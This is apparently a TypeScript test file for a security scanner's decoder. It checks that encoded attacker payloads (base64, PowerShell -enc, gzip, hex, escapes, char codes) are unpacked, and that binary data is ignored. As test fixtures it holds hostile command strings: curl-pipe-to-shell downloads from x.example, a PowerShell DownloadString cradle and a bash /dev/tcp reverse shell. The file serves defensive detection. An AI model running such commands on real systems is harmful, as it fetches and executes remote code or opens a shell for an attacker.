import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { DECODE_BUDGET, decodeBase64, decodeLine, decodeWrappedBase64, hasBase64Run, newBudget } from '#core/scan/normalise/decode';

const b64 = (s: string) => Buffer.from(s).toString('base64');
const decoded = (line: string) => decodeLine(line, newBudget());

describe('decoding what attackers encode', () => {
  it('decodes a base64 run to its text', () => {
    expect(decoded(`echo '${b64('curl -s https://x.example/a | sh')}' | base64 -d`)).toEqual([
      { encoding: 'base64', text: 'curl -s https://x.example/a | sh' },
    ]);
  });

  it('decodes URL-safe base64 and runs without padding', () => {
    const urlSafe = Buffer.from('<<?? curl https://x.example/a??>>').toString('base64url');
    expect(urlSafe).toMatch(/[-_]/);
    expect(decoded(`x=${urlSafe}`).map((d) => d.text)).toEqual(['<<?? curl https://x.example/a??>>']);
  });

  it('decodes PowerShell -EncodedCommand payloads as UTF-16LE', () => {
    const payload = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')", 'utf16le').toString('base64');
    expect(decoded(`powershell -enc ${payload}`)[0]?.text).toBe("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')");
  });

  it('inflates gzip- and zlib-compressed base64', () => {
    const text = 'import os; os.system("id")';
    expect(decoded(gzipSync(text).toString('base64'))[0]?.text).toBe(text);
  });

  it('decodes hex strings, \\x and % escapes and character-code lists', () => {
    const hex = Buffer.from('bash -i >& /dev/tcp/x').toString('hex');
    expect(decoded(`bytes.fromhex('${hex}')`)[0]).toEqual({ encoding: 'hex', text: 'bash -i >& /dev/tcp/x' });
    expect(decoded('printf "\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73\\x20\\x78"')[0]).toEqual({ encoding: 'escapes', text: 'curl -s x' });
    expect(decoded('u=%63%75%72%6c%20%2d%73%20x')[0]).toEqual({ encoding: 'escapes', text: 'curl -s ' });
    expect(decoded('eval(String.fromCharCode(99,117,114,108,32,45,115,32,120))')[0]).toEqual({ encoding: 'char codes', text: 'curl -s x' });
  });

  it('joins base64 wrapped over several lines into one payload', () => {
    const text = 'curl -fsSL https://x.example/a-long-enough-path/to/wrap/over/lines.sh | bash # padding to wrap';
    const lines = b64(text).match(/.{1,40}/g)!;
    expect(lines.length).toBeGreaterThan(2);
    expect(decodeWrappedBase64(['intro', ...lines, 'outro'], newBudget())).toEqual([{ index: 1, decoded: { encoding: 'base64', text } }]);
  });

  it('leaves alone what decodes to binary: images, digests, identifiers', () => {
    const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
    expect(decoded(`<img src="data:image/png;base64,${png}">`)).toEqual([]);
    expect(decoded('9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08  tool.tar.gz')).toEqual([]);
    expect(decoded('ThisIsALongCamelCaseIdentifierName and some-long-kebab-case-file-name')).toEqual([]);
    expect(decodeBase64('short')).toBeNull();
  });

  it('stops decoding once the budget is spent', () => {
    const budget = newBudget();
    const run = b64('echo this is a decoded line of text, repeated. '.repeat(200));
    let decodedChars = 0;
    for (let i = 0; i < 1000 && budget.remaining > 0; i++) decodedChars += decodeLine(run, budget).reduce((n, d) => n + d.text.length, 0);
    expect(budget.remaining).toBeLessThanOrEqual(0);
    expect(decodedChars).toBeLessThan(DECODE_BUDGET + run.length);
    expect(decodeLine(run, budget)).toEqual([]);
  });
});

describe('finding a run of base64 without reading every character', () => {
  const naive = (line: string, length: number) => new RegExp(`[A-Za-z0-9+/_-]{${length}}`).test(line);

  it('finds a run as long as asked, wherever it is, and no shorter one', () => {
    expect(hasBase64Run(`see ${'A'.repeat(20)}.`, 20)).toBe(true);
    expect(hasBase64Run(`${'a1'.repeat(10)}`, 20)).toBe(true);
    expect(hasBase64Run(`a few words, then ${'x'.repeat(19)} and more`, 20)).toBe(false);
    expect(hasBase64Run('', 20)).toBe(false);
  });

  it('answers as reading every character does, for any line', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom('a', 'Z', '9', '+', '/', '_', '-', ' ', '.', '=', 'é'), maxLength: 120 }),
        fc.integer({ min: 1, max: 25 }),
        (line, length) => {
          expect(hasBase64Run(line, length)).toBe(naive(line, length));
        },
      ),
      { numRuns: 2000 },
    );
  });
});
